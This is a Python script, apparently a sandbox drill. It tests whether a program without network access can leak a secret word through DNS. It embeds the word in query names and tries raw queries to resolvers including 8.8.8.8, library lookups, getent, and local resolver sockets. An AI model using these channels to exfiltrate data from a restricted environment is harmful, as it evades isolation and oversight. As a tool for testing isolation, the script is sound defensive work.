# Looks up names that carry a secret, by the C library and by a question that it writes itself. If it worked, a
# program without any network could send data away: whoever answers for that name gets it.
import errno
import os
import socket
import struct
import subprocess
import sys

port, word = int(sys.argv[1]), sys.argv[2]
control = os.environ.get("DRILL_CONTROL")
reached = 0


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)


def ask(address, kind=socket.SOCK_DGRAM, family=socket.AF_INET):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(question(word + ".drill.test"))


def attempt(what, action):
    global reached
    try:
        action()
        print(what, "reached")
        reached += 1
    except OSError as why:
        print(what, errno.errorcode.get(why.errno, why))


attempt("own question", lambda: ask(("127.0.0.1", port)))
attempt("own question, mapped", lambda: ask(("::ffff:127.0.0.1", port), family=socket.AF_INET6))
if control:  # nothing that would ask the machine's real resolver
    sys.exit(10 if reached else 0)
for server in ("127.0.0.53", "127.0.0.1", "8.8.8.8", "10.0.0.2", "169.254.169.253"):
    attempt(f"question to {server}", lambda: ask((server, 53)))
    attempt(f"question to {server} by stream", lambda: ask((server, 53), socket.SOCK_STREAM))
for name in (word + ".drill.test", word + ".localhost.test", "drill.test", "_dns." + word + ".test"):
    attempt("lookup", lambda: socket.getaddrinfo(name, 80))
    attempt("reverse", lambda: socket.gethostbyaddr("192.0.2.1"))
for tool in (["getent", "hosts", word + ".test"], ["getent", "ahosts", word + ".test"], ["getent", "services", "domain"]):
    try:
        run = subprocess.run(tool, capture_output=True, timeout=5)
        if run.returncode == 0 and tool[1] != "services":
            print(tool[1], "reached", run.stdout)
            reached += 1
    except (OSError, subprocess.TimeoutExpired) as why:
        print(tool[1], why)
for path in ("/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
sys.exit(10 if reached else 0)
